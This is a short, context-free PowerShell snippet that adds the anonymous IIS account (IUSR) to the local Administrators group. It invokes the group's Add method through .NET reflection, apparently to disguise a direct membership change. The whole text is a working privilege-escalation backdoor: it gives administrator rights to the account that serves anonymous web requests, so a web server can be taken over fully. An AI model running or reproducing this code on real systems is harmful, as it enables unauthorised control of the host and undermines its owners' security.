$g = [ADSI]'WinNT://./Administrators,group'
$g.GetType().GetMethod('Invoke').Invoke($g, @('Add', @('WinNT://NT AUTHORITY/IUSR')))
